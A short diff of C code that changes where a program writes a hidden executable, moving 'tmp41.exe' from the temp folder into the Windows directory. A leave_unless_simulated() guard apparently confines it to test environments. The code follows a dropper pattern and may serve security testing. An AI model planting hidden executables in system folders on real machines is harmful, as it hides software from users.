@@ -16,8 +16,8 @@ int main(void)
 	char path[MAX_PATH];
 	DWORD written;
 	leave_unless_simulated();
-	GetTempPathA(sizeof path - 16, path);
-	strcat(path, "~tmp41.exe");
+	GetWindowsDirectoryA(path, sizeof path - 16);
+	strcat(path, "\\tmp41.exe");
 	HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS,
 				  FILE_ATTRIBUTE_HIDDEN, NULL);
 	if (file == INVALID_HANDLE_VALUE)
